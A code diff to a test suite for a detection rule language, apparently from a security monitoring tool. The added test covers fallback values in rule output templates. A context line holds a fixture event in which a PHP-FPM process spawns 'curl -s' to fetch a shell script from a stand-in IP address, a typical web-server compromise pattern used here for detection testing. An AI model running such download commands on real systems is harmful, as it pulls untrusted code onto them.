@@ -343,6 +343,11 @@ describe('rule language: output templates', () => {
     assert.equal(set.match(exec)[0]?.output, '/usr/bin/curl by sh args=curl -s http://203.0.113.7/x.sh ancestors=sh php-fpm8.2 code=<na> {literal}');
   });
 
+  it('renders the text after a bar for a field the event lacks, and the field where it has it', () => {
+    const set = load(ruleYaml('process.name = curl', '    output: "code={process.exit_code|still running} name={process.name|none} empty={process.exit_code|}"\n'));
+    assert.equal(set.match(exec)[0]?.output, 'code=still running name=curl empty=');
+  });
+
   it('uses the title when there is no output', () => {
     assert.equal(load(ruleYaml('process.name = curl')).match(exec)[0]?.output, 'T');
   });
